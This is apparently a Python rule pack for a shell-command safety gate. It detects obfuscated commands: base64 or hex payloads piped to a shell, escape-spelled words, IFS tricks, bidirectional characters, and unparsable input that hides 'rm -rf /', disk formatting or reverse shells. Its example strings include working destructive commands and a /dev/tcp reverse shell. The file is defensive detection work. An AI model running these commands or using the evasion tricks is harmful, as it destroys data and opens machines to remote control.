"""Obfuscation rules: encoded payloads, escapes spelling commands, unparsable or oversized input."""

from __future__ import annotations

import re

from engine.gate.packs.model import CATASTROPHIC, DANGEROUS, IRREVERSIBLE, Pack, rule
from engine.gate.shell.view import Command

_DECLARES = frozenset("export declare typeset readonly local".split())
HEX_WORD = re.compile(r"\\(?:x[0-9a-fA-F]{2}|[0-3][0-7]{2})(?:\\(?:x[0-9a-fA-F]{2}|[0-3][0-7]{2})){1,}")

def _decodes_to_file(cmd) -> bool:
    """A decoder writing what it decodes into a file (openssl's single-dash words are not letter clusters)."""
    if cmd.name == "openssl":
        return "-d" in cmd.args and ("-out" in cmd.args or bool(cmd.out_targets()))
    return bool(cmd.flags & {"-d", "--decode", "-D", "-r"}) and (bool(cmd.out_targets()) or bool(cmd.flags & {"-o", "--output"}))


def _no_splitting(cmd: Command) -> bool:
    """`IFS= read -r line`: an empty IFS in front of `read` only keeps the line whole; it splits nothing."""
    return cmd.env.get("IFS") == "" and cmd.name in ("read", "mapfile", "readarray")


RULES = [
    rule("shell.unparsed", DANGEROUS, "obfuscation", "the command does not parse cleanly; read conservatively",
         trigger=True, examples=["rm -rf /some/path 'unterminated", "| git reset --hard"], counter=["ls -la"]),
    rule("shell.too-large", DANGEROUS, "obfuscation", "the command is too large to analyse fully", trigger=True,
         examples=["echo " + "a" * 17000], counter=["echo a"]),
    rule("shell.too-complex", DANGEROUS, "obfuscation", "the command is too deeply nested to analyse fully",
         trigger=True, examples=["echo " + "$(" * 200 + "x" + ")" * 200], counter=["echo $(date)"]),
    rule("obfuscation.deep-nesting", DANGEROUS, "obfuscation", "code nested in code more than five levels deep",
         trigger=True, examples=["sh -c \"sh -c 'sh -c \\\"sh -c \\\\\\\"sh -c \\\\\\\\\\\\\\\"sh -c ls\\\\\\\\\\\\\\\"\\\\\\\"\\\"'\""],
         counter=["sh -c 'sh -c ls'"]),
    rule("obfuscation.decoded-payload", DANGEROUS, "obfuscation exec", "decodes an encoded payload and runs it",
         trigger=True, examples=["echo bHMgLWxh | base64 -d | sh", "echo 6c73 | xxd -r -p | bash"],
         counter=["echo bHM= | base64 -d"]),
    rule("obfuscation.hex-escapes", DANGEROUS, "obfuscation",
         "spells text with hex or octal escapes and hands it on (hides a command)", trigger=True,
         examples=["echo -e '\\x72\\x6d\\x20\\x2d\\x72\\x66' | sh", "x=$(printf '\\x6c\\x73'); echo $x"],
         counter=["echo 'line1\\nline2'", "printf '\\162\\155\\040\\055\\162\\146\\n'"]),
    rule("obfuscation.ansi-c-command", DANGEROUS, "obfuscation", "spells a word with $'\\x..' escapes",
         raw="always", needles="$'", args=r"\$'[^']{0,40}\\(?:x[0-9a-fA-F]{2}|[0-3][0-7]{2})[^']{0,40}\\(?:x[0-9a-fA-F]{2}|[0-3][0-7]{2})",
         examples=["echo $'\\x72\\x6d' -rf /", "$'\\x72\\x6d' -rf x"], counter=["echo $'rm -rf /'"]),
    rule("obfuscation.base64-decode", DANGEROUS, "obfuscation", "decodes base64 or hex into a file or command",
         names="base64 xxd openssl uudecode", test=lambda c: _decodes_to_file(c),
         examples=["base64 -d payload.txt > run.sh", "openssl enc -d -base64 -in p.b64 -out run.sh"],
         counter=["base64 -d payload.txt", "openssl x509 -in chain.pem -noout -issuer -dates"]),
    rule("obfuscation.base64-output", DANGEROUS, "fs", "base64 writes its result to a file", names="base64",
         flags="-o --output", examples=["base64 -o out.bin", "base64 --output=out.bin"], counter=["base64"]),
    rule("obfuscation.rev-shell", DANGEROUS, "obfuscation exec", "reverses text that is then run", raw="always", needles="rev",
         args=r"\brev\b[^|\n]{0,100}\|\s{0,4}(?:ba|z|da)?sh\b", examples=["echo 'fr- mr' | rev | sh"],
         counter=["echo abc | rev"]),
    rule("obfuscation.ifs", DANGEROUS, "obfuscation", "uses $IFS to hide spaces between words", raw="always", needles="ifs",
         args=r"\$\{?IFS", examples=["cat$IFS/etc/hostname"], counter=["echo \"IFS is a variable\""]),
    rule("obfuscation.custom-ifs", DANGEROUS, "obfuscation", "sets IFS, so later words split where the script chooses",
         scope="env", test=lambda c: "IFS" in c.env and not _no_splitting(c)
         or (c.name in _DECLARES and any(a.startswith("IFS=") for a in c.args)),
         examples=["IFS=,; c=ls,-la; $c", "export IFS=:", "IFS=_ read -r a b <<< x_y", "IFS= ; c=ls; $c"],
         counter=["echo \"$IFS\"", "x=1; echo $x", "while IFS= read -r line; do echo \"$line\"; done < f"]),
    rule("obfuscation.unicode-escape", DANGEROUS, "obfuscation", "contains invisible or bidirectional characters",
         trigger=True,
         examples=["ls \u202e txt.sh"], counter=["echo 'é'"]),
    rule("fallback.rm-root", CATASTROPHIC, "fs obfuscation", "text that could not be analysed deletes a filesystem root",
         raw="fallback", needles="rm", tier=IRREVERSIBLE,
         args=r"\brm\s{1,8}(?:-{1,2}[\w-]{0,20}\s{1,8}){0,6}-(?:\w{0,6}[rR]|-recursive)\w{0,6}\s{1,8}(?:-{1,2}[\w-]{0,20}\s{1,8}){0,6}['\"]?(?:/\*?|~/?|\$HOME/?|/(?:etc|home|usr|var|boot|bin|lib))['\"]?(?=[\s;&|)`]|$)",
         examples=["rm -rf / 'unterminated", "echo " + "a " * 9000 + "; rm -rf /"], counter=["rm -rf ./build 'x"]),
    rule("fallback.disk", CATASTROPHIC, "fs obfuscation", "text that could not be analysed formats or overwrites a disk",
         raw="fallback", needles="mkfs of=/dev", tier=IRREVERSIBLE,
         args=r"\bmkfs(?:\.\w{1,8})?\s|\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk)",
         examples=["mkfs.ext4 /dev/sda1 'x", "dd if=/dev/zero of=/dev/sda 'x"], counter=["dd if=a of=b 'x"]),
    rule("fallback.reverse-shell", CATASTROPHIC, "net exec obfuscation",
         "text that could not be analysed wires a shell to a /dev/tcp or /dev/udp socket (a reverse shell)",
         raw="fallback", needles="/dev/tcp/ /dev/udp/", tier=IRREVERSIBLE,
         args=r"(?:^|[\s;&|(`])(?:/\S{0,40}/)?(?:ba|z|da|k|mk|a|c|tc|fi|y)?sh\b[^\n]{0,300}/dev/(?:tcp|udp)/[^\n]{0,300}(?:[<>]&\s{0,4}-?\d|\d<>)"
              r"|/dev/(?:tcp|udp)/[^\n]{0,300}(?:^|[\s;&|(`])(?:/\S{0,40}/)?(?:ba|z|da|k|mk|a|c|tc|fi|y)?sh\b[^\n]{0,100}[<>]&\s{0,4}\d",
         examples=["sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5", "/bin/bash -i 3<>/dev/udp/h/53 <&3 >&3 2>&3 'x"],
         counter=["cat < /dev/tcp/time.example/13 'x", "echo 'sh' > /dev/tcp/h/80 'x"]),
]

PACK = Pack("core.obfuscation", "Encoded, decoded, hidden or deeply nested commands.", rules=RULES, core=True)
